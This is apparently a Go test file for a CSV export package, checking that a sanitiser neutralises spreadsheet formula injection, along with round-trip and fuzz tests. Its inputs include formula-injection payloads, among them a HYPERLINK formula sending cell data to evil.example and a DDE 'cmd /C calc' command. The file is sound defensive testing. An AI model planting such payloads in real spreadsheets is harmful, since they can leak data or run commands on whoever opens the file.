package sheets_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"clicarity/internal/sheets"
)

// Nothing that somebody typed runs in the spreadsheet of whoever opens the file.
func TestAbuseFormulaInjection(t *testing.T) {
	t.Parallel()
	for _, cell := range []string{`=HYPERLINK("http://evil.example?x="&A1,"open")`, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1",
		"＝1", "＋1", "－1", "＠x", "\ufeff=1", "\u200b=1", "\x00=1"} {
		if got := sheets.Defused(cell); got != "'"+cell {
			t.Errorf("%q goes out as %q", cell, got)
		}
	}
	for _, cell := range []string{"", "1250", "0.375", "Mithai Ghar", "a=b", "राम", "'=1", "2026-11-23", "(1)"} {
		if got := sheets.Defused(cell); got != cell {
			t.Errorf("%q goes out as %q", cell, got)
		}
	}
}

func TestATableComesBackAsItWentOut(t *testing.T) {
	t.Parallel()
	var out strings.Builder
	w, err := sheets.NewWriter(&out)
	if err != nil {
		t.Fatal(err)
	}
	row := []string{`say "yes", now`, "two\nlines", "कार्टन; \"500\"", `=1+1","=2`}
	cells := make([]sheets.Cell, len(row))
	for i, c := range row {
		cells[i] = sheets.Text(c)
	}
	if err := w.Row(cells); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	text, marked := strings.CutPrefix(out.String(), "\ufeff")
	got, err := csv.NewReader(strings.NewReader(text)).Read()
	if err != nil || !marked || len(got) != len(row) || got[0] != row[0] || got[1] != row[1] || got[2] != row[2] || got[3] != "'"+row[3] {
		t.Errorf("%q %v", got, err)
	}
}

func FuzzDefused(f *testing.F) {
	f.Add("=1")
	f.Fuzz(func(t *testing.T, cell string) {
		got := sheets.Defused(cell)
		if strings.TrimPrefix(got, "'") != cell && got != cell || got != "" && strings.ContainsRune("=+-@\t\r", []rune(got)[0]) {
			t.Errorf("%q goes out as %q", cell, got)
		}
	})
}
